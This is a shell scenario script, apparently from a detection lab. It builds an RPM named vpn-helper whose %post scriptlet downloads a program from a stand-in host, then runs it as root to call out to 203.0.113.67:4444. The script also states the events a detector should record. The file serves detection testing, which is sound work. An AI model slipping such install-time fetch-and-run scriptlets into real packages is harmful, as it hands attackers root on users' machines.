# The other package format: its scriptlet runs as root, too.
title="Downloaded .rpm, its scriptlet fetches a program and starts it"
what="ops downloads vpn-helper.rpm with Firefox from a file sharing site and installs it with sudo rpm -i. Its %post scriptlet fetches a program from 203.0.113.66 into /var/tmp and starts it as root; the program is no part of the package."
host=ws3.example.org user=ops daemons="cron sshd"

setup() {
  echo 'ops ALL=(root) NOPASSWD: /usr/bin/rpm' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  private_copy /var/lib/rpm
  local top="$base/out/rpm"; mkdir -p "$top/SPECS"
  printf 'Name: vpn-helper\nVersion: 4.2\nRelease: 1\nSummary: helper\nLicense: MIT\nBuildArch: noarch\n%%description\nhelper\n%%install\nmkdir -p %%{buildroot}/opt/vpn-helper\necho none > %%{buildroot}/opt/vpn-helper/README\n%%files\n/opt/vpn-helper/README\n%%post\nwget -q -O /var/tmp/.vh http://drop.example.net/vh\nchmod +x /var/tmp/.vh\n/var/tmp/.vh 203.0.113.67 4444 >/dev/null\nexit 0\n' > "$top/SPECS/v.spec"
  rpmbuild -bb --quiet --define "_topdir $top" --define "_buildhost build.example.net" "$top/SPECS/v.spec" >/dev/null 2>&1
  mv "$top"/RPMS/noarch/*.rpm "$base/out/www/vpn-helper.rpm" || return 1
  cc -O1 -o "$base/out/www/vh" "$lab/lib/stand-ins/beacon.c"
}
act() {
  display_up
  small_talk 2
  firefox_save ops http://files.example.net/vpn-helper.rpm vpn-helper.rpm
  sleep 2
  ssh_as ops <<'L'
sudo rpm -i --force-debian --nodeps Downloads/vpn-helper.rpm
L
}
truth() {
  file_step save 'firefox-esr rename.*/home/ops/Downloads/vpn-helper.rpm' 'the browser saves the package'
  exec_step install 'rpm -i --force-debian --nodeps Downloads/vpn-helper.rpm' 'it is installed'
  exec_step scriptlet '(sh|dash|bash) /bin/sh /var/tmp/rpm-tmp' 'its scriptlet runs'
  exec_step execute '/var/tmp/.vh 203.0.113.67' 'and starts what it fetched'
  net_step beacon '203.0.113.67:4444' 'which calls out'
}
